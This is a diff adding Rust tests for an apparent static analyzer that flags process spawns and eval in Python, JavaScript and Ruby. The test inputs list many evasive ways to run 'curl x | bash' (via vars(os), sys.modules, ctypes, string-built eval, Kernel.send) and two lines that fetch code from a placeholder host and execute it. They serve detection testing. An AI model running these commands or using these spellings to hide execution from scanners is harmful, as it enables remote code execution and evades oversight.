@@ -151,3 +151,92 @@ fn long_callee_chains_do_not_overflow() {
     );
     let _ = analyze(Lang::Ruby, &format!("x = a{}\n", ".a".repeat(n)), 1);
 }
+
+fn unresolved(lang: Lang, src: &str) -> Vec<String> {
+    analyze(lang, src, 1)
+        .unresolved
+        .into_iter()
+        .map(|(_, w)| w)
+        .collect()
+}
+
+#[test]
+fn capability_uses_the_tables_do_not_judge_are_unresolved() {
+    // Each is a second spelling of a process spawn that the call tables do not name.
+    for src in [
+        "import subprocess\ns = subprocess\ns.run(['bash','-c','curl x | bash'])\n",
+        "import subprocess\nrun = subprocess.run\nrun('curl x | bash', shell=True)\n",
+        "import os\nvars(os)['system']('curl x | bash')\n",
+        "import sys\nsys.modules['os'].system('curl x | bash')\n",
+        "import ctypes\nctypes.CDLL(None).system(b'curl x | bash')\n",
+        "import os\nos.spawnve(os.P_WAIT, '/bin/sh', ['sh','-c','curl x|sh'], {})\n",
+        "import sh\nsh.bash('-c', 'curl x | bash')\n",
+        "from urllib.request import urlopen\nlist(map(exec, [urlopen('https://e.example/').read()]))\n",
+        "import subprocess\nsubprocess.run(['-c', 'curl x | sh'], executable='/bin/bash')\n",
+        "import subprocess\nc = 'echo hi'\nc += ' ; curl x | bash'\nsubprocess.run(c, shell=True)\n",
+        "x = ().__class__.__bases__[0].__subclasses__()\n",
+    ] {
+        assert!(!unresolved(Lang::Python, src).is_empty(), "{src}");
+    }
+    for src in [
+        "require('child_process')['execSync']('curl x | bash')\n",
+        "globalThis['ev'+'al']('1')\n",
+        "const r = require\nr('child_process').execSync('curl x | sh')\n",
+        "const {execSync} = require('child_process')\nconst run = execSync\nrun('curl x|sh')\n",
+        "process.mainModule.require('child_process').execSync('id')\n",
+        "const m = await import('node:child_process')\n",
+        "fetch('https://e.example/x').then(r => r.text()).then(eval)\n",
+        "process.binding('spawn_sync')\n",
+    ] {
+        assert!(!unresolved(Lang::JavaScript, src).is_empty(), "{src}");
+    }
+    for src in [
+        "Kernel.send(:system, 'curl x | bash')\n",
+        "method(:system).call('curl x | bash')\n",
+        "IO.read('|curl x | bash')\n",
+        "Kernel.public_send(:exec, 'id')\n",
+    ] {
+        assert!(!unresolved(Lang::Ruby, src).is_empty(), "{src}");
+    }
+}
+
+#[test]
+fn capability_uses_judged_with_literal_arguments_are_resolved() {
+    for src in [
+        "import subprocess, os\nsubprocess.run(['git', 'status'], check=True)\nprint(os.path.join('a', 'b'))\n",
+        "import os, sys\nos.makedirs('out', exist_ok=True) if False else None\nsys.exit(0)\n",
+        "import requests\nr = requests.get('https://api.github.com/repos', timeout=5)\nprint(r.json())\n",
+        "x = getattr(obj, 'name', None)\n",
+    ] {
+        assert_eq!(unresolved(Lang::Python, src), Vec::<String>::new(), "{src}");
+    }
+    for src in [
+        "const { execSync } = require('child_process')\nexecSync('git status')\n",
+        "const fs = require('fs')\nconsole.log(process.env.HOME, process.argv)\n",
+    ] {
+        assert_eq!(
+            unresolved(Lang::JavaScript, src),
+            Vec::<String>::new(),
+            "{src}"
+        );
+    }
+}
+
+#[test]
+fn names_rebound_are_not_folded() {
+    // The folder used to report the first binding as the command.
+    for src in [
+        "import os\nc = 'echo hi'\nc += ' | bash'\nos.system(c)\n",
+        "import os\nc = 'echo hi'\nc, d = 'curl x | bash', 1\nos.system(c)\n",
+        "import os\nc = 'echo hi'\nfor c in ['curl x | bash']:\n    os.system(c)\n",
+        "import os\nc = 'echo hi'\nif (c := 'curl x | bash'):\n    os.system(c)\n",
+    ] {
+        assert_eq!(shell_texts(&py(src)), ["unknown"], "{src}");
+    }
+    let f = analyze(
+        Lang::JavaScript,
+        "const cp = require('child_process')\nlet c = 'echo hello'\nc = 'curl x | sh'\ncp.execSync(c)\n",
+        1,
+    );
+    assert!(!shell_texts(&f).contains(&"sh:echo hello".to_string()));
+}
